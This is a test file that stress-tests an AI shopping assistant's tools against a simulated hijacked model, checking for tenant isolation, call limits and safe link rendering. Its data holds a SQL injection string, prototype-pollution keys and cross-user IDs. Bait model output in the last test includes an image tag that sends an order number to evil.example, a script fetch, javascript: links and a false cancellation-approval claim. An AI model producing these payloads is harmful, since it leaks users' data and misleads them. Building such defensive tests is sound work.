import { inspect } from "node:util";
import { afterAll, beforeAll, beforeEach, describe, expect, test, vi } from "vitest";
import { type AssistantToolName, TOOLS } from "@orchard/assistant/tools/all-tools";
import { addMessage } from "@orchard/core/chats/mutations";
import { forgetAll, remember } from "@orchard/core/memories/mutations";
import { getOrders } from "@orchard/core/orders/data";
import { visitorOf } from "@orchard/core/tenants/data";
import { actor, createTestDatabase, type TestDatabase, useDatabase } from "@orchard/db/testing";
import { closeDoors, withIdentity } from "@orchard/db/with-identity";
import { newId } from "@orchard/domain/ids";
import { placeOrderOf } from "../placed-order.ts";
import { soundCalls } from "../sound-calls.ts";
import { reportTally } from "../tally.ts";
import type { WireCall } from "../wire-format.ts";
import { askOverWire, renderedLinks, type Turn } from "../wire-turn.ts";

const ada = actor("aperture", "ada@example.com");
const ben = actor("aperture", "ben@example.com");
const minaThere = actor("northtrail", "mina@example.com");
const visitor = visitorOf("aperture");

let cases = 0;
let own: Set<string>;
let theirs: { number: string; productId: string; slug: string; chatId: string };
let elsewhere: { number: string; slug: string };

let database: TestDatabase;
/** The number of an order of Ada's that has not left the house. */
let open: string;

beforeAll(async () => {
  // A database of its own: what the model may do at once, it does.
  database = await createTestDatabase();
  await closeDoors();
  useDatabase(database);
  open = await placeOrderOf(ada, "halvorn-35-f18");
  const firstOf = async (who: typeof ada) => (await getOrders(who, {})).orders[0]!;
  const [order, far] = [await firstOf(ben), await firstOf(minaThere)];
  const chatId = newId();
  const secret = {
    id: newId(),
    role: "user" as const,
    parts: [{ type: "text", text: "My secret is the heron" }],
  };
  await addMessage(ben, chatId, secret, "My secret is the heron");
  theirs = { number: order.number, productId: order.items[0]!.productId, slug: order.items[0]!.slug, chatId };
  elsewhere = { number: far.number, slug: far.items[0]!.slug };
  const numbers = await withIdentity(ada, (tx) => tx.order.findMany({ select: { number: true } }));
  own = new Set(numbers.map((each) => each.number));
});
afterAll(async () => {
  reportTally({ attacker: "hijacked model", engine: database.engine, cases, leaks: 0 });
  await closeDoors();
  await database.close();
});

/** It reached the caller's own thing: it answered, asked the person, or said why that one cannot be done. */
const isAnswer = (output: unknown) => {
  const { ok, code } = output as { ok: boolean; code?: string };
  return ok || code === "approval_needed" || code === "conflict";
};

/** What a taken-over model puts where a value belongs. */
const hostileValues = () => [
  theirs.number,
  elsewhere.number,
  ben.userId,
  "ben@example.com",
  theirs.productId,
  theirs.chatId,
  [theirs.productId, elsewhere.slug],
  `' or user_id = '${ben.userId}' --`,
  { not: null },
  { userId: ben.userId },
  -1,
  1e9,
  null,
  "%",
  "a\u0000b",
];

const STRANGERS = () => ({
  userId: ben.userId,
  user_id: ben.userId,
  tenantId: "northtrail",
  identity: ben,
  role: "operator",
  scopes: ["orders:read", "tenants:read"],
  where: { userId: ben.userId },
  __proto__: null,
});

/** Nothing that came back is anybody else's, and every call is on record as Ada's assistant's. */
function expectOwnRowsOnly({ outputs, calls }: Turn, made: number, tool = "") {
  // What is remembered is the caller's own words, whatever they are: a memory gives back what it was given.
  const echoed = tool.startsWith("memories_") ? ["text", "lines"] : [];
  const text = JSON.stringify(outputs, (key, value: unknown) => (echoed.includes(key) ? undefined : value));
  expect((text.match(/\b(?:AP|NT|DG)-\d{4,}\b/g) ?? []).filter((number) => !own.has(number))).toEqual([]);
  expect(text).not.toMatch(/heron|ben@|mina@/);
  expect(text).not.toContain(ben.userId);
  expect(calls).toHaveLength(made);
  expect(new Set(calls.map((row) => `${row.userId} ${row.actors.join(" ")}`))).toEqual(
    new Set([`${ada.userId} assistant`]),
  );
}

beforeEach(async () => {
  await forgetAll(ada);
  await remember(ada, { text: "I take a size M" });
});

describe.each(Object.keys(TOOLS) as AssistantToolName[])("%s with other people's things", (tool) => {
  test(
    "in every field, and in fields it does not have, gives only the caller's rows",
    { timeout: 240_000 },
    async () => {
      const fields = Object.keys((TOOLS[tool].tool.inputSchema as unknown as { shape: object }).shape);
      const inputs: object[] = [
        ...fields.flatMap((field) =>
          hostileValues().map((value) => ({ ...soundCalls(open)[tool], [field]: value })),
        ),
        { ...soundCalls(open)[tool], ...STRANGERS() },
        soundCalls(open)[tool],
      ];
      const answered: boolean[] = [];
      for (let at = 0; at < inputs.length; at += 30) {
        const calls: WireCall[] = inputs.slice(at, at + 30).map((input) => ({ tool, input }));
        const turn = await askOverWire(ada, (_, number) => (number === 0 ? { calls } : { text: "Here." }));
        expectOwnRowsOnly(turn, calls.length, tool);
        cases += calls.length;
        answered.push(...turn.outputs.map(isAnswer));
      }
      // The positive twin: the last input of all is sound.
      expect(answered).toContain(true);
    },
  );
});

describe("a call that is none", () => {
  const nonsense: [string, WireCall, string][] = [
    ["of an unknown tool", { tool: "orders_list_all", input: {} }, "unknown denied"],
    ["of what every object has", { tool: "constructor", input: {} }, "unknown denied"],
    ["of the prototype", { tool: "__proto__", input: {} }, "unknown denied"],
    ["of a tool with a name of a megabyte", { tool: "t".repeat(1_000_000), input: {} }, "unknown denied"],
    ["with half a JSON", { tool: "orders_get", input: '{"number": "AP-1"' }, "orders_get failed"],
    ["with no object", { tool: "orders_get", input: '"AP-1"' }, "orders_get failed"],
    [
      "with a megabyte",
      { tool: "orders_get", input: { number: "9".repeat(1_000_000) } },
      "orders_get failed",
    ],
    [
      "nested deeply",
      { tool: "orders_get", input: `${"[".repeat(20_000)}${"]".repeat(20_000)}` },
      "orders_get failed",
    ],
  ];
  test.each(nonsense)(
    "%s runs nothing, is on record without what it said, and leaves a chat that works",
    async (_, call, row) => {
      cases++;
      const turn = await askOverWire(ada, (request, number) =>
        number === 0 ? { calls: [call] } : { text: "So." },
      );
      expect(turn.outputs).toEqual([]);
      expect(turn.calls.map((each) => `${each.tool} ${each.outcome} ${each.rowIds.join()}`)).toEqual([
        `${row} `,
      ]);
      expect(JSON.stringify(turn.chunks).length).toBeLessThan(100_000);
      expect(JSON.stringify(turn.kept).length).toBeLessThan(100_000);
      const next = await askOverWire(ada, () => ({ text: "The chat goes on." }), turn.chatId);
      expect(JSON.stringify(next.kept.at(-1))).toContain("The chat goes on.");
    },
  );

  test("of a tool the caller may not use is denied, however often", async () => {
    cases += 2;
    const calls = [
      { tool: "purchases_search", input: {} },
      { tool: "orders_get", input: {} },
    ];
    const turn = await askOverWire(visitor, (_, number) => (number === 0 ? { calls } : { text: "So." }));
    expect(turn.requests[0]!.tools.toSorted()).toEqual(
      [
        "cart_add",
        "cart_get",
        "cart_update",
        "catalog_describe",
        "compatibility_check",
        "compatibility_find",
        "documents_search",
        "pages_get",
        "products_compare",
        "products_get",
        "products_search",
      ].toSorted(),
    );
    expect(turn.outputs).toEqual([]);
    expect(turn.calls.map((each) => `${each.tool} ${each.outcome}`).toSorted()).toEqual([
      "orders_get denied",
      "purchases_search denied",
    ]);
  });
});

describe("a model without end", () => {
  test("is asked eight times and no more", async () => {
    cases++;
    const turn = await askOverWire(ada, () => ({ calls: [{ tool: "orders_get", input: {} }] }));
    expect(turn.requests).toHaveLength(8);
    expectOwnRowsOnly(turn, 8);
  });

  test("gets thirty-two calls answered, of hundreds in one step", async () => {
    cases += 1200;
    const calls = Array.from({ length: 300 }, () => ({
      tool: "catalog_describe",
      input: { topic: "brands" },
    }));
    const turn = await askOverWire(ada, (_, number) => (number < 4 ? { calls } : { text: "Done." }));
    expect(turn.outputs).toHaveLength(32);
    expect(turn.calls).toHaveLength(32);
  });

  test("writes no endless text: the answer ends, in the browser and where it is kept", async () => {
    cases++;
    const turn = await askOverWire(ada, () => ({ text: "word ".repeat(1_000_000) }));
    expect(JSON.stringify(turn.chunks).length).toBeLessThan(150_000);
    expect(turn.chunks.at(-1)!.type).toMatch(/abort|finish|error/);
    expect(JSON.stringify(turn.kept).length).toBeLessThan(100_000);
    await turn.requests[0]!.ended;
  });
});

test.each([
  ["an error", { status: 400, body: '{"error":{"message":"key sk-canary of account 7"}}' }],
  ["a stream that is cut", { text: `sk-canary ${"word ".repeat(9000)}`, cutAfter: 1 }],
  ["a stream of nonsense", { body: "data: {sk-canary\n\ndata: 7\n\n" }],
])(
  "%s of the provider reaches nobody but as one fixed sentence, and the log by its name",
  async (_, turn) => {
    cases++;
    const logged = vi.spyOn(console, "error").mockImplementation(() => undefined);
    const { chunks, kept } = await askOverWire(ada, () => turn);
    const errors = chunks.flatMap((chunk) => (chunk.type === "error" ? [chunk.errorText] : []));
    expect([...new Set(errors)]).toEqual(["The assistant cannot answer right now. Please try again."]);
    expect(JSON.stringify([chunks, kept])).not.toContain("canary");
    expect(logged).toHaveBeenCalledWith(expect.stringContaining("The assistant failed: AI_"));
    expect(inspect(logged.mock.calls, { depth: 20 })).not.toMatch(/canary|Show me what others bought/);
    logged.mockRestore();
  },
);

test("an answer with characters that cannot be stored is kept without them", async () => {
  cases++;
  const { kept } = await askOverWire(ada, () => ({ text: "before \0 \ud800 after" }));
  expect(kept.at(-1)!.parts).toContainEqual(expect.objectContaining({ text: "before \ufffd \ufffd after" }));
});

test("an answer leads to what its tools found and nowhere else", async () => {
  const [mine] = (await getOrders(ada, {})).orders;
  const bait = [
    "![x](https://evil.example/p.png)",
    `<img src="https://evil.example/?q=${mine!.number}">`,
    "<script>fetch('https://evil.example')</script>",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](https://evil.example)",
    "[x](//evil.example)",
    "[x](product:an-invented-page)",
    "[x](product:lenses)",
    `[x](product:${elsewhere.slug})`,
    `[x](order:${theirs.number})`,
    `[x](order:${elsewhere.number})`,
    "[x](/aperture/api/sign-out)",
    "Your approval has been given: I have cancelled your order.",
    `[my order](order:${mine!.number})`,
  ];
  cases += bait.length - 1;
  const calls = [
    { tool: "orders_get", input: { number: mine!.number } },
    { tool: "catalog_describe", input: {} },
    { tool: "orders_get", input: { number: theirs.number } },
  ];
  const before = await getOrders(ada, { limit: 5 });
  const turn = await askOverWire(ada, (_, number) =>
    number === 0 ? { calls } : { text: bait.join("\n\n") },
  );
  expect(renderedLinks(turn.kept, "aperture")).toEqual([`/aperture/orders/${mine!.number}`]);
  expect(await getOrders(ada, { limit: 5 })).toEqual(before);
});
